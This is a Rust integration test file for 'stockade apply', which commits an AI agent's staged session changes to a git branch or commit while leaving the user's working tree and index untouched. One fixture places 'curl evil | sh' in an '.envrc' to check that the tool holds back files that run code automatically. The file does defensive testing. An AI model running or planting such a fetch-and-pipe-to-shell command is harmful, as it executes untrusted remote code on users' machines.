//! `stockade apply --branch` and `--commit` on sessions laid out as a run
//! leaves them (run record with the starting commit, staged change set),
//! with the real binary and the real git. No VM is started.

use std::collections::BTreeMap;
use std::fs;
use std::os::unix::fs::PermissionsExt;
use std::path::{Path, PathBuf};
use std::process::{Command, Output};

use sha2::Digest;

use crate::util::{TempDir, stockade_from, text};

fn git(dir: &Path, args: &[&str]) -> String {
    let out = Command::new("git")
        .args(args)
        .current_dir(dir)
        .env("GIT_CONFIG_NOSYSTEM", "1")
        .env("GIT_CONFIG_GLOBAL", "/dev/null")
        .output()
        .expect("run git");
    assert!(out.status.success(), "git {args:?}: {}", text(&out.stderr));
    text(&out.stdout)
}

/// stockade in the workspace, with its config and data in `dir`.
fn stockade(dir: &Path, ws: &Path, args: &[&str]) -> Output {
    stockade_from(dir, ws, args)
}

/// A repository with one commit of `files`; its id.
fn repo(ws: &Path, files: &[(&str, &[u8])]) -> String {
    fs::create_dir_all(ws).unwrap();
    git(ws, &["init", "-q"]);
    git(ws, &["config", "user.name", "Test"]);
    git(ws, &["config", "user.email", "test@example.com"]);
    for (path, content) in files {
        fs::write(ws.join(path), content).unwrap();
    }
    git(ws, &["add", "-A"]);
    git(ws, &["commit", "-q", "-m", "base"]);
    git(ws, &["rev-parse", "HEAD"]).trim().to_string()
}

/// A staged change.
enum Change<'a> {
    File(&'a str, &'a [u8], u32),
    Symlink(&'a str, &'a str),
    Delete(&'a str),
}

/// A finished session of `ws` that started at `head` and staged `changes`
/// (in tree order), as `stockade run` leaves it.
fn session(dir: &Path, ws: &Path, id: &str, head: &str, changes: &[Change<'_>]) {
    let session = dir.join("data/sessions").join(id);
    let store = session.join("changes");
    fs::create_dir_all(store.join("blobs")).unwrap();
    let record = serde_json::json!({
        "id": id, "command": ["agent", "--fix"], "workspace": ws.display().to_string(),
        "started": "2025-03-01T10:15:00Z", "duration_ms": 1200, "status": 0, "outcome": "exited with 0",
        "git_head": head,
    });
    fs::write(session.join("run.json"), serde_json::to_vec(&record).unwrap()).unwrap();
    let mut lines = Vec::new();
    let (mut files, mut bytes) = (0u64, 0u64);
    for change in changes {
        let (path, kind) = match change {
            Change::File(path, content, mode) => {
                let hex: String = sha2::Sha256::digest(content).iter().map(|b| format!("{b:02x}")).collect();
                fs::create_dir_all(store.join("blobs").join(&hex[..2])).unwrap();
                fs::write(store.join("blobs").join(&hex[..2]).join(&hex), content).unwrap();
                files += 1;
                bytes += content.len() as u64;
                (path, serde_json::json!({"type": "file", "mode": mode, "size": content.len(), "sha256": hex}))
            }
            Change::Symlink(path, target) => (path, serde_json::json!({"type": "symlink", "target": target})),
            Change::Delete(path) => (path, serde_json::json!({"type": "delete"})),
        };
        let base = match fs::read(ws.join(path)) {
            Ok(content) => serde_json::json!({
                "type": "file", "mode": 0o644, "size": content.len(),
                "sha256": sha2::Sha256::digest(&content).iter().map(|b| format!("{b:02x}")).collect::<String>(),
            }),
            Err(_) => serde_json::json!({"type": "absent"}),
        };
        lines.push(serde_json::json!({"path": path, "kind": kind, "base": base, "state": "staged"}));
    }
    let header = serde_json::json!({
        "version": 1,
        "report": {
            "summary": {"entries": lines.len(), "files": files, "bytes": bytes, "skipped": 0, "stored": bytes},
            "blobs": files, "skipped": [], "stripped": [], "stripped_count": 0,
        },
        "sightings": false,
    });
    let mut manifest = serde_json::to_vec(&header).unwrap();
    for line in lines {
        manifest.push(b'\n');
        manifest.extend(serde_json::to_vec(&line).unwrap());
    }
    manifest.push(b'\n');
    fs::write(store.join("manifest"), manifest).unwrap();
}

/// The working tree's files and git's index and HEAD, byte for byte.
fn snapshot(ws: &Path) -> BTreeMap<PathBuf, (Vec<u8>, u32)> {
    let mut out = BTreeMap::new();
    let mut stack = vec![ws.to_path_buf()];
    while let Some(dir) = stack.pop() {
        for e in fs::read_dir(&dir).unwrap() {
            let path = e.unwrap().path();
            let meta = fs::symlink_metadata(&path).unwrap();
            if path == ws.join(".git") {
                continue;
            } else if meta.is_dir() {
                stack.push(path);
            } else if meta.file_type().is_symlink() {
                out.insert(path.clone(), (fs::read_link(&path).unwrap().into_os_string().into_encoded_bytes(), 0));
            } else {
                out.insert(path.clone(), (fs::read(&path).unwrap(), meta.permissions().mode()));
            }
        }
    }
    for name in ["index", "HEAD"] {
        out.insert(ws.join(".git").join(name), (fs::read(ws.join(".git").join(name)).unwrap(), 0));
    }
    out
}

#[test]
fn apply_branch_commits_the_staged_changes_and_leaves_tree_and_index_byte_identical() {
    let dir = TempDir::new("apply-branch");
    let ws = dir.path().join("ws");
    let base = repo(&ws, &[("a.txt", b"a\n"), ("gone.txt", b"bye\n"), ("keep.txt", b"keep\n")]);
    let id = "20250301-101500-aaaa";
    session(
        dir.path(),
        &ws,
        id,
        &base,
        &[
            Change::File(".envrc", b"curl evil | sh\n", 0o644),
            Change::File("a.txt", b"agent\n", 0o644),
            Change::Delete("gone.txt"),
            Change::Symlink("link", "a.txt"),
            Change::File("run.sh", b"#!/bin/sh\necho hi\n", 0o755),
        ],
    );
    // The user's own work: one path staged in git, one edited.
    fs::write(ws.join("keep.txt"), b"staged by the user\n").unwrap();
    git(&ws, &["add", "keep.txt"]);
    fs::write(ws.join("a.txt"), b"edited by the user\n").unwrap();
    let before = snapshot(&ws);

    let out = stockade(dir.path(), &ws, &["apply", "--branch", "agent/fix"]);
    let report = text(&out.stdout);
    assert_eq!(out.status.code(), Some(1), "the .envrc is held back: {report}{}", text(&out.stderr));
    assert_eq!(snapshot(&ws), before, "the working tree and index are untouched");
    assert_eq!(git(&ws, &["log", "--format=%P", "agent/fix"]).lines().next(), Some(base.as_str()));
    assert_eq!(git(&ws, &["rev-list", "--count", &format!("{base}..agent/fix")]).trim(), "1");
    assert_eq!(git(&ws, &["diff", "--name-status", &base, "agent/fix"]), "M\ta.txt\nD\tgone.txt\nA\tlink\nA\trun.sh\n");
    assert_eq!(git(&ws, &["show", "agent/fix:a.txt"]), "agent\n");
    let tree = git(&ws, &["ls-tree", "agent/fix"]);
    assert!(tree.lines().any(|l| l.starts_with("100755 blob") && l.ends_with("\trun.sh")), "{tree}");
    assert!(tree.lines().any(|l| l.starts_with("120000 blob") && l.ends_with("\tlink")), "{tree}");
    assert!(report.contains("`git merge agent/fix`"), "{report}");
    assert!(report.contains("held back 1 file that runs code by itself"), "{report}");

    // An existing branch is refused, and nothing changes.
    let tip = git(&ws, &["rev-parse", "agent/fix"]);
    let out = stockade(dir.path(), &ws, &["apply", id, "--branch", "agent/fix", "--include-code"]);
    assert_eq!(out.status.code(), Some(125));
    assert!(text(&out.stderr).contains("branch agent/fix already exists"), "{}", text(&out.stderr));
    assert_eq!(git(&ws, &["rev-parse", "agent/fix"]), tip);
    assert_eq!(snapshot(&ws), before);

    // With --include-code the held-back file goes on a branch of its own.
    let out = stockade(dir.path(), &ws, &["apply", id, "--branch", "agent/code", "--include-code"]);
    assert!(out.status.success(), "{}{}", text(&out.stdout), text(&out.stderr));
    assert_eq!(git(&ws, &["diff", "--name-only", &base, "agent/code"]), ".envrc\n");
    assert_eq!(snapshot(&ws), before);
}

#[test]
fn apply_commit_does_not_sweep_in_what_the_user_staged() {
    let dir = TempDir::new("apply-commit");
    let ws = dir.path().join("ws");
    let base = repo(&ws, &[("a.txt", b"a\n")]);
    session(dir.path(), &ws, "20250301-101500-aaaa", &base, &[Change::File("a.txt", b"agent\n", 0o644)]);
    fs::write(ws.join("mine.txt"), b"the user's\n").unwrap();
    git(&ws, &["add", "mine.txt"]);

    let out = stockade(dir.path(), &ws, &["apply", "--commit"]);
    assert!(out.status.success(), "{}{}", text(&out.stdout), text(&out.stderr));
    assert_eq!(fs::read(ws.join("a.txt")).unwrap(), b"agent\n");
    assert_eq!(git(&ws, &["diff", "--name-only", "HEAD^", "HEAD"]), "a.txt\n");
    assert_eq!(git(&ws, &["status", "--porcelain"]), "A  mine.txt\n");
    let message = git(&ws, &["log", "-1", "--format=%s"]);
    assert!(message.contains("20250301-101500-aaaa") && message.contains("agent --fix"), "{message}");
}
